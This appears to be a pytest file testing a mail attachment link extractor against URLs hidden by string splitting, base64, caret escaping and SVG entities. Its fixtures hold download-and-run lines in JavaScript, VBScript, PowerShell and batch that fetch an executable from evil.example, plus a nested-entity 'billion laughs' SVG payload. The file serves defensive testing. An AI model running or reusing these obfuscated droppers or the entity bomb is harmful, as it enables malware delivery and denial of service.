"""Links in scripts that came as files, and in other texts that programs act upon."""

import pytest

from submissions.extraction.extract import extract
from tests.bench.wrappers import with_file

FILES = {
    "a.js": 'var u = "ht" + "tp://evil.example/x"; new ActiveXObject("WScript.Shell")',
    "b.js": 'var u = atob("aHR0cDovL2V2aWwuZXhhbXBsZS94"); eval(u)',
    "a.vbs": 'u = "http://evil" & _\r\n  ".example/x"\r\nCreateObject("WScript.Shell").Run u',
    "a.ps1": "Invoke-WebRequest ('http://evil'+'.example/x') -OutFile a.exe",
    "a.bat": "@echo off\r\ncurl h^t^t^p://evil.example/x -o a.exe",
    "a.desktop": "[Desktop Entry]\nType=Link\nURL=http://evil.example/x\n",
    "a.svg": '<!DOCTYPE svg [<!ENTITY h "evil.example"><!ENTITY u "http://&h;/x">]><svg><a href="&u;">x</a></svg>',
    "b.svg": "<!DOCTYPE svg [<!ENTITY u 'http://evil.example/x'>]><svg><script>location='&u;'</script></svg>",
}


@pytest.mark.parametrize("name", FILES)
def test_a_link_in_pieces_is_found(name: str) -> None:
    mail = extract(with_file(FILES[name].encode(), name))

    assert "http://evil.example/x" in [url.url for url in mail.urls]


def test_entities_made_of_entities_do_not_grow_without_end() -> None:
    laughs = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 100}">' for n in range(1, 60))
    picture = f'<!DOCTYPE svg [<!ENTITY e0 "http://evil.example/x ">{laughs}]><svg>&e0;{"&e59;" * 9999}</svg>'

    mail = extract(with_file(picture.encode(), "a.svg"))

    assert "http://evil.example/x" in [url.url for url in mail.urls]
